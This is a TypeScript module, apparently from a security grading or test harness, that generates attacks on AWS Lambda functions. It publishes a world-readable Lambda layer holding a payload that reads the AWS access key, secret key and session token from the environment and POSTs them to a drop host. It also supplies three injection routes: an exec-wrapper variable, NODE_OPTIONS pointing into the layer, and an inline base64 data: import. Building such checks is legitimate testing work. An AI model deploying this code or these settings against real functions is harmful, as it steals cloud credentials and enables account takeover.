import { AddLayerVersionPermissionCommand, LambdaClient, PublishLayerVersionCommand } from '@aws-sdk/client-lambda';
import { type CheckContext, hex, zipFiles } from '../../server/kit.ts';
import { dropName } from './drop.ts';

/** Settings that run code before the handler does. */

export interface Settings {
  how: string;
  Layers?: string[];
  Variables: Record<string, string>;
}

/** Sends the credentials of whatever loads it. */
const thief = (mark: string): string =>
  `const { AWS_ACCESS_KEY_ID: id, AWS_SECRET_ACCESS_KEY: secret, AWS_SESSION_TOKEN: token } = process.env;
await fetch('https://${dropName}/', { method: 'POST', body: JSON.stringify({ mark: '${mark}', id, secret, token }) }).catch(() => {});
`;

/** Each family of settings in fresh form, in an order of the grade's seed; `mark` tells what arrived. */
export async function families(ctx: CheckContext, mark: string): Promise<Settings[]> {
  const name = `metrics-${hex(ctx.random, 4)}`;
  const lambda = ctx.owner('attacker').client(LambdaClient);
  const layer = await lambda.send(
    new PublishLayerVersionCommand({
      LayerName: name,
      CompatibleRuntimes: ['nodejs22.x'],
      Content: {
        ZipFile: zipFiles(
          {
            [`${name}.mjs`]: thief(mark),
            [name]: `#!/bin/sh\nexport NODE_OPTIONS="--import /opt/${name}.mjs"\nexec "$@"\n`,
          },
          [name],
        ),
      },
    }),
  );
  await lambda.send(
    new AddLayerVersionPermissionCommand({
      LayerName: name,
      VersionNumber: layer.Version!,
      StatementId: 'everybody',
      Action: 'lambda:GetLayerVersion',
      Principal: '*',
    }),
  );
  const Layers = [layer.LayerVersionArn!];
  const found: Settings[] = [
    { how: 'a wrapper in a layer', Layers, Variables: { AWS_LAMBDA_EXEC_WRAPPER: `/opt/${name}` } },
    { how: 'NODE_OPTIONS and a layer', Layers, Variables: { NODE_OPTIONS: `--import /opt/${name}.mjs` } },
    { how: 'NODE_OPTIONS alone', Variables: { NODE_OPTIONS: inline(mark) } },
  ];
  const first = ctx.random.bytes(1)[0]! % found.length;
  return [...found.slice(first), ...found.slice(0, first)];
}

/** NODE_OPTIONS that hold the code themselves: no layer, no file. */
export const inline = (mark: string): string =>
  `--import data:text/javascript;base64,${Buffer.from(thief(mark)).toString('base64')}`;
